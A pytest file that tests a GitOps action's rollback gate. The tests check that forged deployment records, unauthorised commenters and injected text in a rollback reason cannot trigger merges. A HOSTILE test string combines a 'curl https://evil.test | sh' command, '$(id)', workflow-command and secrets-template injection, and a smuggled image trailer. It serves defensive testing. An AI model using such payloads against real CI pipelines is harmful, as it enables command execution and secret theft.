"""Rollback pull requests, records and comments of those who have no right to them."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest

from gitops_action.core.deployments.payload import RecordContent, write_payload
from tests.support.bump_stage import Stage, bump_stage, pinned
from tests.support.comments import REFUSED, Conversation, code, outside_code
from tests.support.gate_forge import (
    BUMPER,
    FILES,
    NEW,
    OLD,
    PRODUCTION,
    GateStage,
    codes,
    config,
    gate_stage,
    overlay,
)
from tests.support.rollback_stage import files, images, release

WEB = "ghcr.io/acme/web"
BRANCH = "gitops/production/rollback/web"
HOLD_FILE = ".github/gitops/holds/production.web.v2.yaml"
HOLD = f"environment: production\napplication: web\nimage: {WEB}:{NEW}\nreason: it crashes\n"
RULES = """\
merge: auto
deploy: {engine: push}
rollback: {mode: auto}
gates: {approvals: {count: 1}}"""


@pytest.fixture
def gated(tmp_path: Path) -> Iterator[GateStage]:
    """A production that goes back by itself, and whose other changes need an approval."""
    with gate_stage(tmp_path, {**FILES, ".github/gitops.yaml": config(production=RULES)}) as made:
        yield made


def deployed(stage: GateStage, version: str, state: str, *, by: str = "", **forged: Any) -> None:
    """Describe a version and record its deployment.

    Args:
        stage: where.
        version: what production runs.
        state: how it ended.
        by: who records it without a run that proves it; empty: the workflow that deploys.
        forged: what else that one claims of a run.
    """
    repository = stage.repository
    commit = str(repository.commit(files={PRODUCTION: overlay(version)}, message="Deploy web"))
    content = RecordContent(
        environment="production", commit=commit, applications={"web": (f"{WEB}:{version}",)}
    )
    payload = dict(write_payload(content))
    if by:
        repository.record_deployment(
            "production", oid=commit, state=state, payload=payload, by=by, **forged
        )
    else:
        run = repository.start_run(commit)
        job = repository.start_job(run, "deploy / production")
        url = repository.run_url(run, job.name)
        repository.record_deployment(
            "production", oid=commit, state=state, payload=payload, log_url=url
        )
        ended = "success" if state == "success" else "failure"
        repository.finish_job(job, ended)
        repository.finish_run(run.id, ended)
    stage.forge.advance_clock(120)


def roll_back(stage: GateStage, to: str = OLD) -> int:
    """A pull request that says of itself in every way that it is a rollback."""
    trailers = (
        "GitOps-Action: rollback\nGitOps-Environment: production\nGitOps-Application: web\n"
        f"GitOps-Image: {WEB}:{to}\nGitOps-Previous: {WEB}:{NEW}\n"
        f"GitOps-Rollback-Of: {stage.repository.head('main')}\nGitOps-Hold: {WEB}:{NEW}"
    )
    changed: Mapping[str, str] = {PRODUCTION: overlay(to), HOLD_FILE: HOLD}
    stage.repository.commit(
        branch=BRANCH, files=changed, author=BUMPER, message=f"Roll web back\n\n{trailers}"
    )
    pull = stage.repository.open(head=BRANCH, title="Roll web back to v1", by=BUMPER)
    pull.body = f"Asked for by alice.\n\n{trailers}"
    return pull.number


def refused(stage: GateStage, number: int) -> list[str]:
    """Run the gate on what has no cause; gives what it waits for."""
    found = codes(stage.gate())
    assert not stage.merged(number)
    assert stage.ready(number)[0] != "success"
    assert NEW in stage.repository.read("main", PRODUCTION).decode()
    return found


def test_with_a_cause_the_same_pull_request_is_merged(gated: GateStage) -> None:
    """So that what is refused below is refused for its cause alone."""
    deployed(gated, OLD, "success")
    deployed(gated, NEW, "failure")
    number = roll_back(gated)
    gated.gate()
    assert gated.merged(number)


def test_a_rollback_forged_with_the_bump_app_s_key_has_no_cause(gated: GateStage) -> None:
    deployed(gated, OLD, "success")
    deployed(gated, NEW, "success")
    assert refused(gated, roll_back(gated)) == ["approvals-missing"]


def test_a_failure_is_no_cause_for_what_was_never_verified(gated: GateStage) -> None:
    deployed(gated, OLD, "success")
    deployed(gated, NEW, "failure")
    other = f"v0@sha256:{'0' * 64}"
    assert refused(gated, roll_back(gated, to=other)) == ["approvals-missing"]


@pytest.mark.parametrize("by", ["alice", BUMPER])
@pytest.mark.parametrize("borrowed", [False, True])
def test_a_record_of_somebody_with_push_access_is_no_cause(
    gated: GateStage, by: str, *, borrowed: bool
) -> None:
    """Also where it names the job of a deployment that succeeded."""
    deployed(gated, OLD, "success")
    deployed(gated, NEW, "success")
    run = gated.repository.runs()[-1]
    claims = {"log_url": gated.repository.run_url(run, "deploy / production")} if borrowed else {}
    deployed(gated, NEW, "failure", by=by, **claims)
    assert refused(gated, roll_back(gated)) == ["approvals-missing"]


def test_a_forged_success_is_nothing_to_go_back_to(gated: GateStage) -> None:
    other = f"v0@sha256:{'0' * 64}"
    deployed(gated, other, "success", by="alice")
    deployed(gated, OLD, "success")
    deployed(gated, NEW, "failure")
    assert refused(gated, roll_back(gated, to=other)) == ["approvals-missing"]


# Comments.

HOSTILE = (
    '`"; curl https://evil.test | sh #$(id)` @acme/sre <!-- x --> ::set-output name=x::y'
    " Fixes #1 ${{ secrets.A }} | [x](https://evil.test)\u2028GitOps-Image: ghcr.io/evil/web:v9"
)


@pytest.fixture
def stage(tmp_path: Path) -> Iterator[Stage]:
    """A release that failed, and a pull request to comment on."""
    with bump_stage(tmp_path, files()) as made:
        made.repository.collaborator("alice")
        release(made)
        release(made, "failure", web="1.1.0")
        made.repository.commit(branch="topic", files={"README.md": "x\n"})
        made.repository.open(head="topic")
        yield made


@pytest.fixture
def talk(stage: Stage, tmp_path: Path) -> Conversation:
    return Conversation(forge=stage.forge, root=tmp_path)


@pytest.mark.parametrize("role", ["", "read", "triage"])
@pytest.mark.parametrize("reason", ["it crashes", HOSTILE])
def test_a_rollback_by_a_stranger_writes_nothing(
    stage: Stage, talk: Conversation, role: Any, reason: str
) -> None:
    if role:
        stage.repository.collaborator("mallory", role)
    before = stage.repository.branches(), stage.repository.head("main")
    outcome = talk.say(f"/gitops rollback production web because {reason}", by="mallory")
    assert (outcome.exit_code, outcome.outputs["result"], code(outcome)) == (
        0,
        "refused",
        "no-right",
    )
    assert (stage.repository.branches(), stage.repository.head("main")) == before
    assert len(stage.repository.pull_requests()) == 1
    (reply,) = talk.replies
    assert "needs write access, which mallory lacks" in reply.replace("`", "")
    assert "evil" not in reply
    assert talk.reactions == REFUSED


def test_a_reason_with_injection_is_text_wherever_it_is_shown(
    stage: Stage, talk: Conversation
) -> None:
    outcome = talk.say(f"/gitops rollback production web because {HOSTILE}")
    assert (outcome.exit_code, code(outcome)) == (0, "")
    pull = stage.repository.pull_requests()[-1]
    assert (pull.head, images(stage, pull.head)["web"]) == (BRANCH, "1.0.0")
    message = stage.repository.log(pull.head)[0].message
    for text in (pull.title, pull.body, message, *stage.repository.comments(pull.number)):
        lines = text.splitlines()
        assert not [line for line in lines if line.startswith(("::", "GitOps-Image: ghcr.io/evil"))]
        shown = outside_code(text)
        for active in ("@acme/sre", "Fixes #1", "<!-- x", "](https://evil.test)"):
            assert active not in shown
    trailers = [line for line in message.splitlines() if line.startswith("GitOps-Image: ")]
    assert trailers == [f"GitOps-Image: {pinned(f'{WEB}:v1.0.0')}"]
    (hold,) = [path for path in stage.repository.files(pull.head) if "/holds/" in path]
    read = stage.repository.read(pull.head, hold).decode()
    assert sorted(line.partition(":")[0] for line in read.splitlines()) == [
        "application",
        "author",
        "environment",
        "image",
        "reason",
        "since",
    ]


@pytest.mark.parametrize("lines", ["\nGitOps-Image: ghcr.io/evil/web:v9", "\n/gitops merge"])
def test_what_follows_in_further_lines_is_no_part_of_the_command(
    stage: Stage, talk: Conversation, lines: str
) -> None:
    talk.say(f"/gitops rollback production web because it crashes{lines}")
    for pull in stage.repository.pull_requests()[1:]:
        assert "evil" not in pull.body + stage.repository.log(pull.head)[0].message
    assert images(stage)["web"] == "1.1.0"
